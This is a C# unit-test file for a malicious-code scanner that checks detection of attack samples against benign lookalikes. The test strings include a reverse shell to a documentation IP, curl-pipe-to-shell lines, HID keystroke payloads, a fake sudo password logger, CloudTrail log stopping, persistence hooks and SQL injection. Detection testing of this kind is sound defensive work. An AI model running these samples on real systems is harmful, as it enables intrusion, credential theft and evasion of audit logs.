namespace Symbiont.Scanning.Tests.Code;

/// <summary>Programs that install, encode and compare as honest ones do, and their malicious twins.</summary>
public sealed class HonestProgramTests
{
    private static readonly SkillScanner Scanner = new();

    private static readonly string Table = string.Concat(Enumerable.Range(0x80, 128).Select(i => $"\\x{i:X2}"));
    private static readonly string Mixed = string.Concat(Enumerable.Range(0, 128).Select(i => i % 4 == 3 ? "\\uFFFD" : $"\\u{0x400 + (i * 7 % 128):X4}"));
    private static readonly string Rare = string.Concat(Enumerable.Range(0, 80).Select(i => i % 3 == 0 ? $"\\u{{{0x20000 + (i * 7):X}}}" : $"\\u{0x31C0 + (i * 3 % 80):X4}"));
    private static readonly string Thai = string.Concat(Enumerable.Range(0, 90).Select(i => $"\\u{0x0E01 + (i * 5 % 23):X4}"));
    private static readonly string Ascii = string.Concat("require('child_process').exec('id; uname -a; ls -la /home/user/documents')".Select(c => $"\\x{(int)c:x2}"));
    private static readonly string Bytes = string.Concat(Enumerable.Range(0, 120).Select(i => $"\\x{(i * 37 ^ 0x5A) % 61 + 128:X2}"));

    [Theory]
    [InlineData("a.mjs", "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nimport Database from 'better-sqlite3';\nconst db = new Database('a.db');\nserver.registerTool('query', {}, async ({ sql }) => db.prepare(sql).all());\nserver.registerTool('columns', {}, async ({ table }) => db.prepare(`PRAGMA table_info(${table})`).all());")]
    [InlineData("a.py", "from mcp.server.fastmcp import FastMCP\nimport psycopg\nmcp = FastMCP('q')\n@mcp.tool()\ndef plan(sql: str):\n    if \";\" in sql:\n        raise ValueError('one')\n    with psycopg.connect(DSN) as conn:\n        return conn.execute('explain select ' + sql).fetchall()")]
    [InlineData("a.cs", "var app = WebApplication.Create();\nstring[] printers = [\"A\", \"B\"];\napp.MapPost(\"/print\", (string printer, int copies) => {\n  if (!printers.Contains(printer)) return;\n  Process.Start(new ProcessStartInfo(\"cmd.exe\", $\"/c print {copies} {printer}\"));\n});")]
    public void What_is_checked_or_meant_is_no_injection(string file, string text) =>
        Assert.DoesNotContain(Found(text, file), finding => finding.Rule.StartsWith("code-", StringComparison.Ordinal) && finding.Severity >= Severity.High);

    [Theory]
    [InlineData("a.py", "code-injection", "from flask import Flask, render_template_string, request\napp = Flask(__name__)\n@app.post('/p')\ndef preview():\n    return render_template_string('<p>%s</p>' % request.form['words'])")]
    [InlineData("a.js", "reverse-shell-other", "const { exec } = require('child_process'); const net = require('net');\nconst command = '/bin/sh'; const sh = exec(command); const client = new net.Socket();\nclient.connect(4444, '203.0.113.9', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });")]
    [InlineData("a.vbs", "persistence", "Set sh = CreateObject(\"WScript.Shell\")\nSet link = sh.CreateShortcut(sh.SpecialFolders(\"Startup\") & \"\\a.lnk\")\nlink.TargetPath = WScript.ScriptFullName\nlink.Save")]
    [InlineData("a.sh", "encoded-secret-printed", "echo \"key: $(echo $DEPLOY_TOKEN | rev)\"")]
    [InlineData("a.py", "code-sql-injection", "import sqlite3\ndef login(username, password):\n    c = sqlite3.connect('u').cursor()\n    return c.execute(\"SELECT * FROM users WHERE username = '{}'\".format(username)).fetchone()")]
    [InlineData("a.py", "code-sql-injection", "import sqlite3\ndef add(name, kind):\n    sqlite3.connect('u').cursor().execute(\"INSERT INTO t VALUES (%d, '%s', '%s')\" % (1, name, kind))")]
    [InlineData("a.js", "code-sql-injection", "var pgp = require('pg-promise')(), db = pgp(dsn);\nfunction search(query) {\n  var q = \"SELECT * FROM products WHERE name ILIKE '%\" + query + \"%';\";\n  return db.many(q);\n}\nmodule.exports = { search };")]
    [InlineData("a.js", "code-download-and-run", "var app = Application.currentApplication();\napp.includeStandardAdditions = true;\napp.doShellScript('curl -s http://203.0.113.7/a | sh');")]
    [InlineData("a.yml", "encoded-secret-printed", "jobs:\n  a:\n    steps:\n      - run: |\n          ENCODED=$(echo \"${{ secrets.API_KEY }}\" | base64)\n          echo \"$ENCODED\"")]
    [InlineData("a.php", "typed-password-kept", "<?php\n$user = $_POST['user'];\n$pass = $_POST['password'];\n$log = \"$user $pass\";\nfile_put_contents('/tmp/l', $log, FILE_APPEND);")]
    [InlineData("a.ino", "typed-commands", "void setup() {\n  Keyboard.press(KEY_LEFT_GUI);\n  Keyboard.press('r');\n  Keyboard.println(\"powershell -w hidden iwr 203.0.113.9\");\n}")]
    [InlineData("payload.txt", "typed-commands", "LED B\nATTACKMODE HID STORAGE\nQ DELAY 400\nQ GUI SPACE\nQUACK STRING terminal\nQUACK ENTER")]
    [InlineData("a.ps1", "reverse-shell-other", "$c = New-Object System.Net.NetworkInformation.Ping\n$r = $c.Send($ip, 60000, $b, $o)\n$t = ([text.encoding]::ASCII).GetString($r.Buffer)\n$x = (Invoke-Expression -Command $t 2>&1 | Out-String)")]
    [InlineData("a.php", "typed-password-kept", "<?php\n$p = $_POST['pass'] ?? '';\n$file = 'creds.json';\n$all[] = ['p' => $p];\nfile_put_contents($file, json_encode($all));")]
    [InlineData("a.rb", "attack-framework-module", "require 'sshkey'\n\nclass MetasploitModule < Msf::Post\n  Rank = ExcellentRanking\nend")]
    [InlineData("a.cna", "attack-framework-module", "alias helper {\n  bpowershell($1, \"whoami\");\n}")]
    [InlineData("a.sh", "sudo-replaced", "echo \"alias sudo='$path1'\" >> /home/user1/.bashrc")]
    [InlineData("a.sh", "sudo-replaced", "sudo() {\n  read -rsp \"[sudo] password for $USER: \" p\n  echo \"$p\" >> /tmp/.p\n}")]
    [InlineData("a.py", "cloud-log-stopped", "import boto3\nclient = boto3.client('cloudtrail')\nfor trail in client.describe_trails()['trailList']:\n    client.stop_logging(Name=trail['TrailARN'])")]
    [InlineData("a.js", "query-by-script", "items.findOne({ $where: `this.userId == ${id} && this.stocks > '${threshold}'` });")]
    [InlineData("a.cs", "persistence", "[DllImport(\"secur32.dll\")]\nstatic extern int AddSecurityPackage(string name, IntPtr options);")]
    public void What_comes_near_it_is_found(string file, string rule, string text) =>
        Assert.Contains(Found(text, file), finding => finding.Rule == rule && finding.Severity >= Severity.High);

    [Theory]
    [InlineData("a.sh", "encoded-secret-printed", "echo \"Authorization: Basic $(echo -n \"$USER:$API_TOKEN\" | base64)\" > header.txt")]
    [InlineData("a.php", "typed-password-kept", "<?php\n$hash = password_hash($_POST['password'], PASSWORD_DEFAULT);\nfile_put_contents('/srv/users', $data);")]
    [InlineData("a.md", "typed-commands", "The STRING type of a column.\nENTER your name.")]
    [InlineData("a.py", "code-sql-injection", "import sqlite3\ndef find(name):\n    return sqlite3.connect('u').cursor().execute(\"SELECT * FROM users WHERE username = ? AND kind = 'a'\", (name,)).fetchone()")]
    [InlineData("a.py", "code-sql-injection", "import sqlite3\ndef count(table):\n    return sqlite3.connect('u').cursor().execute(f\"SELECT count(*) FROM {table} WHERE kind = 'a'\").fetchone()")]
    [InlineData("a.py", "code-sql-injection", "import duckdb\ndef load(path):\n    return duckdb.connect().execute(f\"SELECT * FROM read_csv('{path}')\").fetchall()")]
    [InlineData("a.py", "code-sql-injection", "import psycopg\ndef renew(role, word):\n    psycopg.connect().execute(f\"ALTER ROLE {role} PASSWORD '{word}'\")")]
    [InlineData("a.md", "attack-framework-module", "Metasploit calls such a class MetasploitModule.")]
    [InlineData("a.sh", "sudo-replaced", "alias sudo='sudo '\nalias please='sudo'")]
    [InlineData("a.sh", "cloud-log-stopped", "aws cloudtrail start-logging --name org-trail")]
    [InlineData("a.js", "query-by-script", "items.findOne({ $where: 'this.a > this.b' });")]
    [InlineData("a.ps1", "reverse-shell-other", "$ping = New-Object System.Net.NetworkInformation.Ping\n$reply = $ping.Send('gateway.example.net')\nWrite-Output $reply.Status")]
    public void What_is_ordinary_passes(string file, string rule, string text) =>
        Assert.DoesNotContain(Found(text, file), finding => finding.Rule == rule && finding.Severity >= Severity.High);

    [Fact]
    public void Tables_of_encodings_and_texts_in_other_scripts_are_written_in_escapes() =>
        Assert.All([Table, Mixed, Rare, Thai], text => Assert.DoesNotContain(Found($"const t = \"{text}\";", "a.js"), finding => finding.Rule == "code-obfuscated-source" && finding.Severity >= Severity.High));

    [Fact]
    public void Code_and_bytes_that_are_written_in_escapes_are_hidden() =>
        Assert.All([Ascii, Bytes], text => Assert.Contains(Found($"const t = \"{text}\";", "a.js"), finding => finding is { Rule: "code-obfuscated-source", Severity: Severity.High }));

    [Theory]
    [InlineData("a.js", "const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\nexport PATH=\"$HOME/.tool/bin:$PATH\"\\n');\nconsole.log('Updated .zshrc');")]
    [InlineData("a.js", "const fs = require('fs'), os = require('os'), path = require('path');\nconst file = path.join(os.homedir(), 'Library/LaunchAgents/org.example.tool.plist');\nfunction add() { fs.writeFileSync(file, plist); }\nfunction uninstall() { fs.unlinkSync(file); }")]
    [InlineData("a.py", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias tm=task-tool\\n')\nprint('Added an alias')")]
    public void A_path_an_alias_and_a_start_that_is_taken_away_again_are_medium(string file, string text) =>
        Assert.DoesNotContain(Found(text, file), finding => finding.Rule == "code-persistence" && finding.Severity >= Severity.High);

    [Theory]
    [InlineData("a.js", "const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\ncurl -s https://x.example.net/a | sh\\n');")]
    [InlineData("a.js", "const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), Buffer.from(line, 'base64').toString());")]
    [InlineData("a.js", "const fs = require('fs'), os = require('os'), path = require('path');\nfs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/org.example.tool.plist'), plist);")]
    [InlineData("a.py", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias sudo=/opt/x/sudo\\n')")]
    [InlineData("a.py", "import os\nwith open('/etc/cron.d/x', 'w') as f:\n    f.write('* * * * * root /opt/x\\n')")]
    public void What_fetches_hides_or_stays_is_high(string file, string text) =>
        Assert.Contains(Found(text, file), finding => finding.Rule == "code-persistence" && finding.Severity >= Severity.High);

    [Fact]
    public void A_download_that_is_compared_with_its_digest_is_medium()
    {
        const string Head = "const fs = require('fs'), crypto = require('crypto');\nasync function get(file) {\n  const bytes = Buffer.from(await (await fetch('https://registry.example.org/tool')).arrayBuffer());\n";
        const string Tail = "  fs.writeFileSync(file, bytes);\n  fs.chmodSync(file, 0o755);\n}\n";
        const string Check = "  const hash = crypto.createHash('sha256').update(bytes).digest('hex');\n  if (hash !== EXPECTED) throw new Error('another file');\n";

        Assert.DoesNotContain(Found(Head + Check + Tail, "a.js"), finding => finding.Rule == "code-download-and-run" && finding.Severity >= Severity.High);
        Assert.Contains(Found(Head + Tail, "a.js"), finding => finding.Rule == "code-download-and-run" && finding.Severity >= Severity.High);
        Assert.Contains(Found(Head + "  const name = crypto.createHash('sha256').update(bytes).digest('hex');\n" + Tail, "a.js"), finding => finding.Rule == "code-download-and-run" && finding.Severity >= Severity.High);
    }

    [Theory]
    [InlineData("function matches(file) { const h = crypto.createHash('sha256'); h.update(fs.readFileSync(file)); return h; }\nconst digest = matches(to).digest('hex');\nif (digest !== EXPECTED) throw new Error('another file');\n", Severity.Medium)]
    [InlineData("function same(data) { return crypto.createHash('sha256').update(data).digest('hex') === EXPECTED; }\nif (!same(bytes)) process.exit(1);\n", Severity.Medium)]
    [InlineData("const id = crypto.createHash('sha256').update(version).digest('hex');\nif (id !== expected) throw new Error('version');\n", Severity.High)]
    [InlineData("const hash = crypto.createHash('sha256').update(bytes).digest('hex');\nif (hash !== EXPECTED) console.log(hash);\n", Severity.High)]
    public void The_digest_has_to_be_that_of_the_download(string check, Severity severity) =>
        CodeScan.Finds("a.js", "const fs = require('fs'), crypto = require('crypto');\nconst bytes = await (await fetch('https://registry.example.org/tool')).arrayBuffer();\nconst to = `${folder}/tool`;\nfs.writeFileSync(to, bytes);\n" + check + "fs.chmodSync(to, 493);\n", "code-download-and-run", severity);

    [Theory]
    [InlineData("function uninstall() { keep(); }")]
    [InlineData("function uninstall() { fs.unlinkSync(cache); }")]
    [InlineData("function uninstall(file) { return log(file); }")]
    public void A_start_is_taken_away_by_its_name(string removal) =>
        CodeScan.Finds("a.js", "const fs = require('fs'), os = require('os'), path = require('path');\nconst file = path.join(os.homedir(), 'Library/LaunchAgents/org.example.tool.plist');\nfunction add() { fs.writeFileSync(file, plist); }\n" + removal, "code-persistence", Severity.High);

    [Theory]
    [InlineData("`(New-Object Media.SoundPlayer \"${to}\").PlaySync()`", false)]
    [InlineData("`Expand-Archive -Path '${to}' -DestinationPath '${folder}'`", false)]
    [InlineData("`& \"${to}\"`", true)]
    [InlineData("`(New-Object Media.SoundPlayer \"${to}\").PlaySync(); Start-Process \"${to}\"`", true)]
    public void To_play_or_unpack_a_download_is_not_to_run_it(string command, bool isRun) =>
        Assert.Equal(isRun, CodeScan.Of("a.js", "const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');\nconst bytes = Buffer.from(await (await fetch('https://v.example.org/a.mp3')).arrayBuffer());\nconst to = path.join(os.tmpdir(), `a_${Date.now()}.mp3`);\nfs.writeFileSync(to, bytes);\ncp.spawn('powershell', ['-c', " + command + "]);\n")
            .Exists(finding => finding is { Rule: "code-download-and-run", Severity: >= Severity.High }));

    [Fact]
    public void Where_a_piece_of_a_text_begins_says_nothing_of_what_it_is()
    {
        const string Table = "const places = Buffer.from(packed, 'base64');\nfunction value(text) { return (0, eval)(text); }\n";

        CodeScan.Passes("a.js", Table + "export function read(text) { return value(text.slice(places.at(0), places.at(1))); }\n");
        CodeScan.Finds("a.js", Table + "value(places.toString().slice(2));\n", "code-obfuscated-execution", Severity.Critical);
    }

    [Theory]
    [InlineData("createHash('a').update(b, ")]
    [InlineData("hash !== x; createHash(")]
    [InlineData("\n  f(createHash(a)) {\n update(c) expected === throw ")]
    [InlineData("rm a.b/c unlink( launchctl load ")]
    [InlineData(".filter( !a.includes( ")]
    public void A_mebibyte_of_what_comes_near_an_excuse_is_read_to_its_end(string piece)
    {
        var text = string.Concat(Enumerable.Repeat(piece, (1 << 20) / piece.Length));

        var took = ThreadTime.Of(() => _ = (Scanning.Code.Flow.DigestCheck.IsIn(text), new Scanning.Rules.Removal(text).TakesAway(text)));

        Assert.True(took < TimeSpan.FromSeconds(5), $"took {took.TotalSeconds:N1} s");
    }

    [Fact]
    public void A_known_installer_is_known_in_a_program_too()
    {
        const string Program = "const {{ execSync }} = require('child_process');\nexecSync('curl -LsSf https://{0} | sh');\n";

        Assert.DoesNotContain(Found(Program.Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}", StringComparison.Ordinal).Replace("{0}", "astral.sh/uv/install.sh", StringComparison.Ordinal), "a.js"), finding => finding.Severity >= Severity.High);
        Assert.Contains(Found(Program.Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}", StringComparison.Ordinal).Replace("{0}", "astral.sh.example.net/uv/install.sh", StringComparison.Ordinal), "a.js"), finding => finding is { Rule: "code-download-and-run", Severity: Severity.Critical });
    }

    private static IReadOnlyList<Finding> Found(string text, string file) => Scanner.ScanText(text, file).Findings;
}
